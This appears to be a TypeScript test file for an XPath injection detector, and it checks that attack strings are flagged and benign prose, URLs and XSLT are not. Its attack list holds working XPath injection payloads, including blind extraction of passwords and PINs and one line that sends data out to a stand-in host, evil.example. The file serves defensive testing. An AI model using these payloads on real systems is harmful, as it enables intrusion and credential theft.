import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Finding } from '../../finding.ts';
import { xpathiDetector as detector } from './xpathi.ts';
import { cpuBestOf, detectorRunner } from '../../../../test/helpers/detector-harness.ts';

const run = detectorRunner(detector, { source: 'query', name: 'user' });
const pl1 = (fs: Finding[]) => fs.filter((f) => f.paranoia === 1);

const attacks: [string, string][] = [
  ["']|//*|//*['", 'xpathi-union'],
  ["' | //password | '", 'xpathi-union'],
  ['"] | //user/*[1] | //x["', 'xpathi-union'],
  ["admin') | /*[1] | ('", 'xpathi-union'],
  ["' |//@*|'", 'xpathi-union'],
  ["x']/../*|//x['", 'xpathi-step-out'],
  ["x']//*['", 'xpathi-step-out'],
  ["' or substring(//user[1]/password,1,1)='a", 'xpathi-blind-function'],
  ["' and string-length(name(/*[1]))=4 and '1'='1", 'xpathi-blind-function'],
  ["x') or starts-with(//account[1]/@pin,'1') or ('", 'xpathi-blind-function'],
  ["' or //user[name='admin']/password/text()='a' or 'a'='b", 'xpathi-blind-function'],
  ["' or doc-available(concat('http://evil.example/',//user[1]/name)) or '", 'xpathi-blind-function'],
  // out of a numeric predicate: no quote
  ['1 or 1=1]|//*|//*[1=1', 'xpathi-union'],
];

const benign = [
  "it's | /home",
  "'a' || //comment",
  "Tom's bar | //tags",
  'https://example.com/a//b',
  "O'Brien / O'Neil",
  "x = 'a' | 'b'",
  '<xsl:value-of select="substring(//title,1,10)"/>',
  "Use count(//item) to count items, it's easy",
  "SELECT name FROM t WHERE a = 'x' AND b = 'y'",
  "the path is 'C:\\Users' | dir //server/share",
  '[[Home]] | //italic//',
  'see [1] | //note',
  "it's good or /usr/bin is fine",
];

test('XPath injections are found at paranoia 1', () => {
  for (const [v, rule] of attacks) {
    const fs = pl1(run(v));
    assert.deepEqual(fs.map((f) => f.ruleId), [rule], `${JSON.stringify(v)}`);
    assert.equal(fs[0]!.category, 'xpathi');
    assert.equal(fs[0]!.score, 5);
  }
});

test('quotes, bars and slashes in prose, URLs and XSLT give nothing', () => {
  for (const v of benign) assert.deepEqual(run(v), [], `false positive: ${v}`);
});

test('linear time; never throws', () => {
  for (let i = 0; i < 3000; i++) {
    let s = '';
    for (let j = 0; j < 30; j++) s += "'\"]|/*@.() orandsubstring"[Math.floor(Math.random() * 24)] ?? '';
    run(s);
  }
  const inputs = ["'".repeat(200000), "']".repeat(100000), "' | ".repeat(50000), '(/'.repeat(100000), "' or substring(/".repeat(12000), 'substring(/'.repeat(20000)];
  for (const v of inputs) {
    const ms = cpuBestOf(() => { run(v); });
    assert.ok(ms < 250, `slow ${ms.toFixed(1)} ms on ${v.slice(0, 12)}`);
  }
});
